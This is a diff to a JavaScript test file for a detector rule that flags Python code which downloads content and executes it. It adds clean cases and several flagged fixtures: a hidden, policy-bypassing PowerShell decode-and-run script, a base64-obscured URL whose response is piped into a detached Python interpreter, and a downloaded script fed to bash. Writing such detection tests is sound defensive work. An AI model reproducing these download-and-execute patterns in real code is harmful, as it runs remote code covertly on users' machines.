@@ -3,6 +3,10 @@ import rule from './py-download-exec.js';
 
 ruleTest(rule, {
   clean: [
+    { name: 'downloaded page saved as .html and opened in the browser', file: 'http.py', code: `import os, socket, subprocess\ndef req(host, display=True):\n    sock = socket.socket()\n    ans = sock.recv(4096)\n    if display:\n        file = get_temp_file(autoext=".html")\n        with open(file, "wb") as fd:\n            fd.write(ans)\n        os.startfile(file)\n        subprocess.Popen(["xdg-open", file])\n` },
+    { name: 'downloaded JSON piped into jq (not an interpreter of code)', file: 'jq.py', code: `import requests, subprocess\nr = requests.get("https://api.example.org/items")\np = subprocess.Popen(["jq", "."], stdin=subprocess.PIPE)\np.communicate(r.content)\n` },
+    { name: 'a local script piped into python', file: 'runpy.py', code: `import subprocess, sys, requests\nrequests.get("https://api.example.org/ping")\np = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE)\np.communicate(open("local.py", "rb").read())\n` },
+    { name: 'PowerShell that decodes base64 but never runs it', file: 'ps.py', code: `import subprocess\nSCRIPT = '$b = [Convert]::FromBase64String($s); [IO.File]::WriteAllBytes("out.bin", $b)'\nsubprocess.run(["powershell", "-Command", SCRIPT])\n` },
     { name: 'requests fetches JSON', file: 'client.py', code: `import requests\nr = requests.get("https://api.github.com/repos/x/y")\ndata = r.json()\nprint(data["name"])\n` },
     { name: 'build script runs git', file: 'build.py', code: `import subprocess\nsubprocess.check_call(["git", "describe", "--tags"])\nsubprocess.run("make -j4", shell=True)\n` },
     { name: 'download saved, never run', file: 'dl.py', code: `import urllib.request\nurllib.request.urlretrieve("https://example.org/data.csv", "data.csv")\nimport csv\nrows = list(csv.reader(open("data.csv")))\n` },
@@ -60,6 +64,24 @@ ruleTest(rule, {
       file: 'tools.py',
       code: `import requests, subprocess\ndef dl(url, path):\n    r = requests.get(url)\n    with open(path, "wb") as f:\n        f.write(r.content)\ndef run(path):\n    subprocess.Popen(path)\ndl("https://raw.example-host.net/u/pics.exe", "pics.exe")\nrun("pics.exe")\n`,
       findings: [{ line: 7, severity: 'high', message: /Writes downloaded content to a file and starts a process/ }],
+    },
+    {
+      name: 'PowerShell decode-and-run script written out and started hidden',
+      file: 'minizip.py',
+      code: `import os, subprocess\ndef go(script_path):\n    code = f'''$ms = New-Object IO.MemoryStream(,[Convert]::FromBase64String("H4sIAAAA"))\n$cmd = (New-Object IO.StreamReader($ms)).ReadToEnd()\nSet-Content -Path "{script_path}" -Value $cmd\nInvoke-Expression $cmd'''\n    put = os.getenv("TMP") + "\\\\ab.ps1"\n    open(put, "w").write(code)\n    subprocess.Popen(['powershell.exe', '-ExecutionPolicy', 'Bypass', '-WindowStyle', 'Hidden', '-File', put])\n`,
+      findings: [{ line: 3, message: /PowerShell script that decodes hidden code and runs it/ }],
+    },
+    {
+      name: 'response piped into a detached python reading stdin',
+      file: 'tableate/__init__.py',
+      code: `import base64, requests, subprocess, sys\ndef cfg(val):\n    url = base64.b64decode("aHR0cHM6Ly94LmV4YW1wbGUubmV0L2s=").decode() + "/" + val\n    response = requests.get(url, timeout=3)\n    data = response.text.encode()\n    p = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE, start_new_session=True)\n    p.stdin.write(data)\n`,
+      findings: [{ line: 7, message: /Pipes code downloaded from the network into an interpreter/ }],
+    },
+    {
+      name: 'download fed to bash through input=',
+      file: 'i.py',
+      code: `import subprocess, urllib.request\nscript = urllib.request.urlopen("https://x.example.net/i.sh").read()\nsubprocess.run(["bash"], input=script)\n`,
+      findings: [{ line: 3, message: /Pipes code downloaded/ }],
     },
   ],
 });
